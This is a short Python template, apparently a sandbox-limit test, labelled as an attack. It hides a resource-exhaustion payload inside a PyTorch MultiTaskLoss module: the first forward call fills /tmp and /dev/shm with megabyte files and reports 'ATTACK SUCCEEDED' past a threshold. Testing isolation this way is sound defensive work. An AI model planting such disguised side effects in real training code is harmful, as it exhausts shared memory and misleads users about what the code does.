"""Attack: fill the sandbox's private /tmp and /dev/shm (tmpfs: their pages belong to no
process) with __MB__ MiB each. Where a size or a memory limit stops the writes, the loss
goes on as a plain sum; writing more than __ALLOWED__ MiB anywhere is a success."""

import os

import torch.nn as nn


def fill(folder):
    written = 0
    block = b"x" * 2**20
    try:
        for index in range(__MB__):
            with open(os.path.join(folder, f"fill{index}"), "wb") as handle:
                handle.write(block)
            written += 1
    except OSError:
        pass
    return written


class MultiTaskLoss(nn.Module):
    def __init__(self):
        super().__init__()
        self.done = False

    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        if not self.done:
            self.done = True
            for folder in ("/tmp", "/dev/shm"):
                written = fill(folder)
                if written > __ALLOWED__:
                    raise RuntimeError(f"ATTACK SUCCEEDED: wrote {written} MiB to {folder}")
        return fine_loss + coarse_loss
